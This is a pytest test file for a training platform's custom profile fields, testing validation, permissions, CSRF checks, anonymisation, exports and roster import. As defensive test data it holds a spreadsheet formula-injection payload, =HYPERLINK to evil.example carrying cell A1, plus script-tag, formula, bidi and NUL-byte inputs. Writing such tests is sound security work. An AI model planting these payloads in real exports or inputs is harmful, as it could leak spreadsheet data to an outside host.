"""Profile fields administrators define (a staff number, a grade): defined, reordered, retired and audited on
/admin/profile-fields; filled by learners on /account and by administrators on an account's page; one column per
active field at the end of every completion export (CSV, XLSX, JSON, API, coordinator); erased on anonymisation."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import event

from greencustoms import profiles
from greencustoms.exports import COLUMNS, completions_export, parse_filters
from greencustoms.extensions import db
from greencustoms.models import ProfileField, ProfileValue, User
from tests.adminkit import T0, add_learner, add_record, audit_events, seed_rows, signed_in
from tests.conftest import csrf_token, post_form
from tests.coordinatorkit import coordinator, create_token, learner_with_certificate
from tests.exportkit import export_file
from tests.workshopkit import make_workshop

KEYS = [column.key for column in COLUMNS]
TITLES = [str(column.title) for column in COLUMNS]
FIELDS_PAGE = "/admin/profile-fields"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def admin(app, worker):
    """(admin id, signed-in admin client); the export worker runs."""
    return signed_in(app)


def _define(app, key: str, label: str, kind: str = "text", options: tuple[str, ...] = ()) -> int:
    """Define a field through the service, as an administrator; returns its id."""
    with app.app_context():
        actor = db.session.execute(db.select(User).filter_by(role="admin")).scalars().first()
        return profiles.define_field(actor, key=key, label=label, kind=kind, options=options).id


def _values(app, user_id: int) -> dict[str, str]:
    with app.app_context():
        rows = db.session.execute(
            db.select(ProfileField.key, ProfileValue.value)
            .join(ProfileField, ProfileField.id == ProfileValue.field_id)
            .where(ProfileValue.user_id == user_id)
        )
        return {key: value for key, value in rows}


def _store(app, user_id: int, field_id: int, value: str) -> None:
    """Store a value directly (no rule: how hostile data imported by other means would sit in the table)."""
    with app.app_context():
        db.session.add(ProfileValue(user_id=user_id, field_id=field_id, value=value))
        db.session.commit()


def _fields(app) -> list[tuple[str, str, bool]]:
    with app.app_context():
        return [(field.key, field.label, field.active) for field in profiles.all_fields()]


# --- administration ---------------------------------------------------------------------------------------------


def test_an_administrator_defines_edits_reorders_retires_and_reactivates_fields_audited(app, admin):
    """The whole life of two fields through the pages, each step audited and readable in the audit log."""
    _id, client = admin
    created = post_form(
        client, FIELDS_PAGE, {"label": "Staff number", "key": "staff_number", "kind": "text"}, token_from=FIELDS_PAGE
    )
    assert created.status_code == 303
    post_form(
        client,
        FIELDS_PAGE,
        {"label": "Grade", "key": "grade", "kind": "choice", "options": "Officer\nSenior officer\nOfficer\n"},
        token_from=FIELDS_PAGE,
    )
    page = client.get(FIELDS_PAGE).get_data(as_text=True)
    assert "Staff number" in page and "profile.staff_number" in page and "Senior officer" in page
    assert "Profile fields" in client.get("/admin/").get_data(as_text=True)  # in the navigation
    with app.app_context():
        grade = db.session.execute(db.select(ProfileField).filter_by(key="grade")).scalar_one()
        grade_id, options = grade.id, grade.options
    assert options == ["Officer", "Senior officer"]  # duplicates dropped, order kept

    edited = post_form(
        client,
        f"{FIELDS_PAGE}/{grade_id}",
        {"label": "Grade (rank)", "options": "Officer\nChief officer", "hint": "As on your payslip"},
        token_from=f"{FIELDS_PAGE}/{grade_id}",
    )
    assert edited.status_code == 303
    moved = post_form(client, f"{FIELDS_PAGE}/{grade_id}/move", {"direction": "up"}, token_from=FIELDS_PAGE)
    assert moved.status_code == 303
    assert _fields(app) == [("grade", "Grade (rank)", True), ("staff_number", "Staff number", True)]

    assert post_form(client, f"{FIELDS_PAGE}/{grade_id}/retire", token_from=FIELDS_PAGE).status_code == 303
    assert _fields(app)[-1] == ("grade", "Grade (rank)", False)
    assert "Reactivate “Grade (rank)”" in client.get(FIELDS_PAGE).get_data(as_text=True)
    assert post_form(client, f"{FIELDS_PAGE}/{grade_id}/reactivate", token_from=FIELDS_PAGE).status_code == 303
    assert ("grade", "Grade (rank)", True) in _fields(app)

    events = [e.event for e in audit_events(app) if e.event.startswith("profile_field.")]
    assert events == [
        "profile_field.created",
        "profile_field.created",
        "profile_field.changed",
        "profile_field.moved",
        "profile_field.retired",
        "profile_field.reactivated",
    ]
    changed = audit_events(app, "profile_field.changed")[0].details
    assert changed["label"] == "Grade (rank)" and changed["changed"]["options"]["to"] == ["Officer", "Chief officer"]
    log = client.get("/admin/audit").get_data(as_text=True)
    assert "added the profile field “Staff number” (key staff_number)" in log
    assert "retired the profile field “Grade (rank)”" in log
    assert "Officer, Chief officer" in log


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"label": "Staff number", "key": "Staff Number", "kind": "text"}, "The key must start with a letter"),
        ({"label": "Staff number", "key": "9lives", "kind": "text"}, "The key must start with a letter"),
        ({"label": "Staff number", "key": "x" * 41, "kind": "text"}, "Field cannot be longer than 40"),
        ({"label": "Grade", "key": "grade", "kind": "choice", "options": "\n \n"}, "at least one choice"),
        ({"label": "=1+1", "key": "calc", "kind": "text"}, "spreadsheet would run as a formula"),
        ({"label": "L" * 101, "key": "long", "kind": "text"}, "Field cannot be longer than 100"),
        ({"label": "Grade", "key": "grade", "kind": "choice", "options": "<b>Chief</b>"}, "special characters"),
        ({"label": "Grade", "key": "grade", "kind": "colour"}, "Not a valid choice"),
        ({"label": "", "key": "empty", "kind": "text"}, "This field is required"),
    ],
)
def test_a_malformed_field_is_refused_with_a_clear_400(app, admin, data, message):
    """Hostile and mistaken definitions get their message next to the input, and nothing is stored."""
    response = post_form(admin[1], FIELDS_PAGE, data, token_from=FIELDS_PAGE)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert _fields(app) == []


def test_a_key_is_never_reused_even_after_its_field_is_retired(app, admin):
    """A retired field keeps its key: defining another field with it is refused (exports must stay unambiguous)."""
    field_id = _define(app, "staff_number", "Staff number")
    client = admin[1]
    post_form(client, f"{FIELDS_PAGE}/{field_id}/retire", token_from=FIELDS_PAGE)
    response = post_form(
        client, FIELDS_PAGE, {"label": "Personnel no.", "key": "staff_number", "kind": "text"}, token_from=FIELDS_PAGE
    )
    assert response.status_code == 400
    assert "keys are never reused" in response.get_data(as_text=True)
    assert _fields(app) == [("staff_number", "Staff number", False)]


@pytest.mark.parametrize("language", ["en", "fr"])
def test_the_key_hint_shows_profile_key_as_text(app, language):
    """The key's help text names the column `profile.<key>`: it reaches the page escaped, in every language, and
    is not swallowed as an HTML tag (a lazy_gettext string passes for HTML; the form macro makes it text)."""
    _uid, client = signed_in(app, email="root@example.org", language=language)
    page = client.get(FIELDS_PAGE).get_data(as_text=True)
    assert "profile.&lt;key&gt;" in page
    assert "<key>" not in page


def test_the_edit_page_never_changes_the_key_or_the_kind(app, admin):
    """Posting a key or a kind to the edit page is ignored: only label, help text and choices change."""
    field_id = _define(app, "staff_number", "Staff number")
    url = f"{FIELDS_PAGE}/{field_id}"
    response = post_form(admin[1], url, {"label": "Staff no.", "key": "other", "kind": "choice"}, token_from=url)
    assert response.status_code == 303
    with app.app_context():
        field = db.session.get(ProfileField, field_id)
        assert (field.key, field.kind, field.label) == ("staff_number", "text", "Staff no.")
    assert admin[1].get(f"{FIELDS_PAGE}/999999").status_code == 404


def test_only_administrators_reach_the_profile_field_pages(app, admin):
    """Hostile: learners and trainers get 403 on every page and button, anonymous visitors are sent to sign in;
    nothing changes."""
    field_id = _define(app, "staff_number", "Staff number")
    for role in ("learner", "trainer"):
        _uid, client = signed_in(app, role=role, email=f"{role}@example.org")
        assert client.get(FIELDS_PAGE).status_code == 403
        assert client.get(f"{FIELDS_PAGE}/{field_id}").status_code == 403
        for url, data in (
            (FIELDS_PAGE, {"label": "X", "key": "x", "kind": "text"}),
            (f"{FIELDS_PAGE}/{field_id}", {"label": "Hacked"}),
            (f"{FIELDS_PAGE}/{field_id}/retire", {}),
            (f"{FIELDS_PAGE}/{field_id}/move", {"direction": "down"}),
        ):
            assert post_form(client, url, data, token_from="/account").status_code == 403
        assert "/admin/profile-fields" not in client.get("/account").get_data(as_text=True)
    anonymous = app.test_client().get(FIELDS_PAGE)
    assert anonymous.status_code in (302, 303) and "/login" in anonymous.headers["Location"]
    assert _fields(app) == [("staff_number", "Staff number", True)]


def test_field_changes_need_the_csrf_token(app, admin):
    """Hostile: a POST without the session's CSRF token (a forged cross-site form) changes nothing."""
    field_id = _define(app, "staff_number", "Staff number")
    client = admin[1]
    for url, data in (
        (FIELDS_PAGE, {"label": "Grade", "key": "grade", "kind": "text"}),
        (f"{FIELDS_PAGE}/{field_id}", {"label": "Forged"}),
        (f"{FIELDS_PAGE}/{field_id}/retire", {}),
    ):
        assert client.post(url, data=data).status_code == 400
    assert _fields(app) == [("staff_number", "Staff number", True)]


# --- values: learners and administrators ------------------------------------------------------------------------


def _account_form(**extra) -> dict:
    base = {
        "full_name": "Officer Learner",
        "email": "learner@example.org",
        "country": "KE",
        "organisation": "KRA",
        "language": "en",
        "timezone": "UTC",
    }
    return {**base, **extra}


def test_a_learner_fills_the_active_fields_on_the_account_page(app, admin):
    """/account shows the active fields with their help text; saving stores the values, an empty text clears one,
    and a retired field is neither shown nor cleared."""
    staff = _define(app, "staff_number", "Staff number")
    _define(app, "grade", "Grade", "choice", ("Officer", "Senior officer"))
    old = _define(app, "duty_station", "Duty station")
    learner, client = signed_in(app, role="learner", email="learner@example.org", name="Officer Learner")
    _store(app, learner, old, "Mombasa")
    with app.app_context():
        profiles.set_active(db.session.get(User, admin[0]), db.session.get(ProfileField, old), False)
    page = client.get("/account").get_data(as_text=True)
    assert "Staff number" in page and "Senior officer" in page and "Duty station" not in page

    data = _account_form(profile_staff_number="  KRA-00421 ", profile_grade="Senior officer")
    assert post_form(client, "/account", data, token_from="/account").status_code == 302
    assert _values(app, learner) == {"staff_number": "KRA-00421", "grade": "Senior officer", "duty_station": "Mombasa"}
    assert 'value="KRA-00421"' in client.get("/account").get_data(as_text=True)

    data = _account_form(profile_staff_number="", profile_grade="Senior officer")
    assert post_form(client, "/account", data, token_from="/account").status_code == 302
    assert _values(app, learner) == {"grade": "Senior officer", "duty_station": "Mombasa"}
    assert not [e for e in audit_events(app, "user.profile_changed")]  # a person's own edits are not audited
    assert staff


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"profile_grade": "Director general"}, "Choose one of the offered values"),
        ({"profile_staff_number": "9" * 101}, "Field cannot be longer than 100"),
        ({"profile_staff_number": "=1+1"}, "spreadsheet would run as a formula"),
        ({"profile_staff_number": "<script>x</script>"}, "special characters"),
        ({"profile_staff_number": "A\u202eB"}, "invisible or control characters"),
    ],
)
def test_a_bad_value_is_refused_and_nothing_is_saved(app, admin, values, message):
    """Hostile: an invented choice, an overlong or formula-like or marked-up or bidi-spoofed value gets its
    message next to the input with 400; neither the profile nor any value is saved."""
    _define(app, "staff_number", "Staff number")
    _define(app, "grade", "Grade", "choice", ("Officer", "Senior officer"))
    learner, client = signed_in(app, role="learner", email="learner@example.org", name="Officer Learner")
    response = post_form(client, "/account", _account_form(full_name="Renamed", **values), token_from="/account")
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert _values(app, learner) == {}
    with app.app_context():
        assert db.session.get(User, learner).full_name == "Officer Learner"


def test_a_control_character_in_a_value_is_a_400(app, admin):
    """Hostile: a NUL byte stops at the door (greencustoms.inputguard), before any query."""
    _define(app, "staff_number", "Staff number")
    learner, client = signed_in(app, role="learner", email="learner@example.org", name="Officer Learner")
    data = _account_form(profile_staff_number="12\x0034")
    assert post_form(client, "/account", data, token_from="/account").status_code == 400
    assert _values(app, learner) == {}


def test_a_choice_removed_later_stays_until_the_person_changes_it(app, admin):
    """Editing the choices never breaks a person's profile: the stored value is still offered and saved as is."""
    grade = _define(app, "grade", "Grade", "choice", ("Officer", "Chief"))
    learner, client = signed_in(app, role="learner", email="learner@example.org", name="Officer Learner")
    _store(app, learner, grade, "Chief")
    url = f"{FIELDS_PAGE}/{grade}"
    post_form(admin[1], url, {"label": "Grade", "options": "Officer\nSenior officer"}, token_from=url)
    assert ">Chief</option>" in client.get("/account").get_data(as_text=True)
    assert post_form(client, "/account", _account_form(profile_grade="Chief"), token_from="/account").status_code == 302
    assert _values(app, learner) == {"grade": "Chief"}
    refused = post_form(client, "/account", _account_form(profile_grade="Director"), token_from="/account")
    assert refused.status_code == 400


def test_an_administrator_sets_the_values_on_the_account_page_audited_without_the_values(app, admin):
    """The account page has the fields; saving stores them and audits which fields changed, never their values."""
    _define(app, "staff_number", "Staff number")
    with app.app_context():
        learner = add_learner("Noor Haddad", email="noor@example.org")
    url = f"/admin/users/{learner}"
    assert "Staff number" in admin[1].get(url).get_data(as_text=True)
    response = post_form(admin[1], f"{url}/profile", {"profile_staff_number": "JO-77"}, token_from=url)
    assert response.status_code == 303
    assert _values(app, learner) == {"staff_number": "JO-77"}
    [entry] = audit_events(app, "user.profile_changed")
    assert entry.details == {"fields": ["staff_number"]} and entry.target == f"user:{learner}"
    assert "JO-77" not in json.dumps(entry.details)
    assert "changed the profile fields staff_number of Noor Haddad" in admin[1].get("/admin/audit").get_data(
        as_text=True
    )
    bad = post_form(admin[1], f"{url}/profile", {"profile_staff_number": "+44 1"}, token_from=url)
    assert bad.status_code == 400 and "formula" in bad.get_data(as_text=True)
    assert _values(app, learner) == {"staff_number": "JO-77"}


def test_nobody_else_sets_a_persons_values(app, admin):
    """Hostile: a learner or trainer posting another person's profile fields gets 403 (there is no other route to
    them); nothing changes."""
    _define(app, "staff_number", "Staff number")
    with app.app_context():
        victim = add_learner("Noor Haddad", email="noor@example.org")
    _store(app, victim, profiles_id(app, "staff_number"), "JO-77")
    for role in ("learner", "trainer"):
        _uid, client = signed_in(app, role=role, email=f"{role}@example.org")
        response = post_form(
            client, f"/admin/users/{victim}/profile", {"profile_staff_number": "HACKED"}, token_from="/account"
        )
        assert response.status_code == 403
        # The account page only ever saves the signed-in person's own values.
        post_form(
            client,
            "/account",
            _account_form(email=f"{role}@example.org", profile_staff_number="MINE", user_id=str(victim)),
            token_from="/account",
        )
    assert _values(app, victim) == {"staff_number": "JO-77"}


def profiles_id(app, key: str) -> int:
    with app.app_context():
        return db.session.execute(db.select(ProfileField.id).filter_by(key=key)).scalar_one()


def test_anonymising_an_account_erases_its_values_and_deleting_one_cascades(app, admin):
    """Profile values are personal data: anonymisation deletes them; deleting an account takes them along."""
    field = _define(app, "staff_number", "Staff number")
    with app.app_context():
        kept = add_learner("Noor Haddad", email="noor@example.org")
        gone = add_learner("Ivo Petrov", email="ivo@example.org")
    _store(app, kept, field, "JO-77")
    _store(app, gone, field, "BG-12")
    url = f"/admin/users/{kept}"
    response = post_form(admin[1], f"{url}/anonymise", {"anonymise-confirm": "y"}, token_from=url)
    assert response.status_code == 303
    assert _values(app, kept) == {}
    assert "Staff number" not in admin[1].get(url).get_data(as_text=True)  # no form on an anonymised account
    refused = post_form(
        admin[1], f"{url}/profile", {"profile_staff_number": "JO-77"}, token_from=f"/admin/users/{gone}"
    )
    assert refused.status_code == 400 and _values(app, kept) == {}
    url = f"/admin/users/{gone}"
    assert post_form(admin[1], f"{url}/delete", {"delete-confirm": "y"}, token_from=url).status_code == 303
    with app.app_context():
        assert db.session.execute(db.select(ProfileValue).filter_by(user_id=gone)).first() is None


# --- exports ----------------------------------------------------------------------------------------------------


def _export(client, query: str):
    return export_file(client.application, client, query)


def _two_fields_and_a_hostile_value(app) -> tuple[int, int, int]:
    """Fields "Staff number" and "Grade"; learner A has both (a formula as staff number, stored around the rules),
    learner B none. Returns (a, b, grade field id)."""
    staff = _define(app, "staff_number", "Staff number")
    grade = _define(app, "grade", "Grade", "choice", ("Officer", "Senior officer"))
    with app.app_context():
        a = add_learner("Amina Njoroge", email="amina@example.org")
        add_record(a, completed=T0, score=90.0, certificate="valid")
        b = add_learner("Juan Pérez", email=None)
        add_record(b)
    _store(app, a, staff, HOSTILE)
    _store(app, a, grade, "Senior officer")
    return a, b, grade


def test_every_format_ends_with_one_column_per_active_field(app, admin):
    """CSV and XLSX: the standard titles unchanged, then the fields' labels; JSON: the standard keys, then
    profile.<key>; a formula stored as a value is inert text in CSV and XLSX and data as is in JSON."""
    a, b, _grade = _two_fields_and_a_hostile_value(app)
    client = admin[1]
    csv_text = _export(client, "format=csv").data.decode("utf-8-sig")
    header, first, second = csv.reader(io.StringIO(csv_text, newline=""))
    assert header == [*TITLES, "Staff number", "Grade"]
    assert first[-2:] == ["'" + HOSTILE, "Senior officer"] and second[-2:] == ["", ""]
    assert csv_text.splitlines()[1].endswith(',"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","Senior officer"')

    sheet = load_workbook(io.BytesIO(_export(client, "format=xlsx").data)).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == [*TITLES, "Staff number", "Grade"]
    assert rows[1][-2:] == ["'" + HOSTILE, "Senior officer"] and rows[2][-2:] == [None, None]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    records = json.loads(_export(client, "format=json").data)
    assert list(records[0]) == [*KEYS, "profile.staff_number", "profile.grade"]
    assert records[0]["learner_id"] == a and records[0]["profile.staff_number"] == HOSTILE
    assert records[1]["learner_id"] == b and records[1]["profile.grade"] is None


def test_the_api_carries_the_fields_under_their_machine_keys(app, admin):
    """/api/v1/completions: the same objects as the JSON export, the profile keys after the standard ones."""
    a, _b, _grade = _two_fields_and_a_hostile_value(app)
    secret = create_token(admin[1], "/admin/api-tokens")
    body = app.test_client().get("/api/v1/completions", headers={"Authorization": f"Bearer {secret}"}).get_json()
    first = body["data"][0]
    assert list(first) == [*KEYS, "profile.staff_number", "profile.grade"]
    assert first["learner_id"] == a and first["profile.grade"] == "Senior officer"


def test_a_retired_field_leaves_new_exports_and_comes_back_with_its_values(app, admin):
    """Retiring removes the column (the others keep their keys); the values are kept and reappear on reactivation."""
    _a, _b, grade = _two_fields_and_a_hostile_value(app)
    client = admin[1]
    post_form(client, f"{FIELDS_PAGE}/{grade}/retire", token_from=FIELDS_PAGE)
    records = json.loads(_export(client, "format=json").data)
    assert list(records[0]) == [*KEYS, "profile.staff_number"]
    post_form(client, f"{FIELDS_PAGE}/{grade}/reactivate", token_from=FIELDS_PAGE)
    records = json.loads(_export(client, "format=json").data)
    assert records[0]["profile.grade"] == "Senior officer"


def test_the_coordinator_export_has_the_fields_and_still_only_the_scope(app, worker):
    """A coordinator's export (page and API) adds the fields' columns and still holds only the scope's rows."""
    _admin_id, _admin_client = signed_in(app, email="root@example.org")
    field = _define(app, "staff_number", "Staff number")
    _coord, client = coordinator(app, ("KE", ""))
    inside, _code = learner_with_certificate(app, "Amina Njoroge", "KE")
    outside, _code = learner_with_certificate(app, "Baraka Mwita", "TZ")
    _store(app, inside, field, "KE-1")
    _store(app, outside, field, "TZ-9")
    response = export_file(
        app, client, {"format": "json"}, url="/coordinator/exports/completions", token_from="/coordinator/exports"
    )
    records = json.loads(response.data)
    assert [(r["learner_id"], r["profile.staff_number"]) for r in records] == [(inside, "KE-1")]
    secret = create_token(client)
    body = client.get("/api/v1/completions", headers={"Authorization": f"Bearer {secret}"}).get_json()
    assert [(r["learner_id"], r["profile.staff_number"]) for r in body["data"]] == [(inside, "KE-1")]
    assert "TZ-9" not in json.dumps(body)


def _queries_for_export(app) -> tuple[int, int]:
    """(statements run, rows written) while one JSON export is prepared and streamed in full."""
    statements: list[str] = []

    def count(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)

    with app.app_context():
        event.listen(db.engine, "before_cursor_execute", count)
        try:
            export = completions_export("json", parse_filters({}), actor_id=None, source="cli")
            rows = len(json.loads(b"".join(export.chunks())))
        finally:
            event.remove(db.engine, "before_cursor_execute", count)
    return len(statements), rows


def test_the_export_runs_as_many_queries_for_many_rows_as_for_few(app):
    """Profile values come in the export's own SELECT: no query per row, whatever the number of rows."""
    signed_in(app)
    staff = _define(app, "staff_number", "Staff number")
    _define(app, "grade", "Grade", "choice", ("Officer",))
    with app.app_context():
        seed_rows(3)
        ids = list(db.session.execute(db.select(User.id)).scalars())
    for user_id in ids:
        _store(app, user_id, staff, f"S-{user_id}")
    few, rows_few = _queries_for_export(app)
    with app.app_context():
        seed_rows(250, start=3)
    many, rows_many = _queries_for_export(app)
    assert (rows_few, rows_many) == (3, 253)
    assert many == few


# --- roster import ----------------------------------------------------------------------------------------------

ROSTER = (
    "full name,e-mail,country,organisation,staff number\r\n"
    "Amina Njoroge,amina@example.org,KE,Kenya Revenue Authority,KRA-00421\r\n"
    "José Müller,,Mexico,SAT,\r\n"
    "Noor Haddad,noor@example.org,JO,Jordan Customs,JO-1\r\n"
)


def _upload_roster(client, workshop_id: int, text: str):
    url = f"/workshops/{workshop_id}/roster"
    token = csrf_token(client, url)
    data = {"csrf_token": token, "roster": (io.BytesIO(text.encode("utf-8")), "roster.csv")}
    return client.post(url, content_type="multipart/form-data", data=data)


def test_a_roster_fills_the_staff_number_of_the_accounts_it_creates_only(app, admin):
    """A "staff number" column fills the field keyed staff_number for new accounts; an existing account (only
    invited) keeps its own value: a trainer never changes another person's profile."""
    field = _define(app, "staff_number", "Staff number")
    with app.app_context():
        noor = add_learner("Noor Haddad", email="noor@example.org", country="JO")
    _store(app, noor, field, "JO-77")
    trainer_id, trainer = signed_in(app, role="trainer", email="trainer@example.org", name="Tess Trainer")
    workshop_id = make_workshop(app, trainer_id)
    assert _upload_roster(trainer, workshop_id, ROSTER).status_code == 303
    with app.app_context():
        ids = {user.full_name: user.id for user in db.session.execute(db.select(User)).scalars()}
    assert _values(app, ids["Amina Njoroge"]) == {"staff_number": "KRA-00421"}
    assert _values(app, ids["José Müller"]) == {}
    assert _values(app, noor) == {"staff_number": "JO-77"}


def test_a_roster_with_staff_numbers_but_no_such_field_imports_nothing(app):
    """Without an active staff_number field the numbers would be lost without a word: the file is refused."""
    trainer_id, trainer = signed_in(app, role="trainer", email="trainer@example.org", name="Tess Trainer")
    workshop_id = make_workshop(app, trainer_id)
    response = _upload_roster(trainer, workshop_id, ROSTER)
    assert response.status_code == 400
    assert "no profile field “staff_number” is active" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.execute(db.select(User).filter_by(full_name="Amina Njoroge")).first() is None


def test_a_roster_staff_number_follows_the_value_rules(app, admin):
    """Hostile: a formula or an overlong staff number is reported by its line, and nothing is imported."""
    _define(app, "staff_number", "Staff number")
    trainer_id, trainer = signed_in(app, role="trainer", email="trainer@example.org", name="Tess Trainer")
    workshop_id = make_workshop(app, trainer_id)
    text = (
        "full name,e-mail,country,organisation,staff number\r\n"
        "Amina Njoroge,,KE,KRA,=HYPERLINK(1)\r\n"
        f"Baraka Mwita,,TZ,TRA,{'9' * 101}\r\n"
    )
    response = _upload_roster(trainer, workshop_id, text)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Line 2: the staff number" in page and "Line 3: the staff number" in page
    with app.app_context():
        assert db.session.execute(db.select(ProfileValue)).first() is None


def test_a_roster_staff_number_must_be_one_the_choice_field_offers(app, admin):
    """Hostile: when staff_number is a choice, a value it does not offer is reported by its line and nothing is
    imported; "import the good rows" then imports the others with their values (one rule with /account's:
    profiles.offered)."""
    _define(app, "staff_number", "Staff number", kind="choice", options=("KRA-00421", "TRA-17"))
    trainer_id, trainer = signed_in(app, role="trainer", email="trainer@example.org", name="Tess Trainer")
    workshop_id = make_workshop(app, trainer_id)
    text = (
        "full name,e-mail,country,organisation,staff number\r\n"
        "Amina Njoroge,,KE,KRA,KRA-00421\r\n"
        "Baraka Mwita,,TZ,TRA,tra-17\r\n"
    )
    response = _upload_roster(trainer, workshop_id, text)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Line 3: the staff number “tra-17” is not one of the values offered: KRA-00421, TRA-17." in page
    assert "Line 2" not in page
    with app.app_context():
        assert db.session.execute(db.select(User).filter_by(full_name="Amina Njoroge")).first() is None

    url = f"/workshops/{workshop_id}/roster"
    data = {"csrf_token": csrf_token(trainer, url), "text": text, "good_rows": "1"}
    assert trainer.post(url, data=data).status_code == 303
    with app.app_context():
        ids = {user.full_name: user.id for user in db.session.execute(db.select(User)).scalars()}
    assert "Baraka Mwita" not in ids
    assert _values(app, ids["Amina Njoroge"]) == {"staff_number": "KRA-00421"}
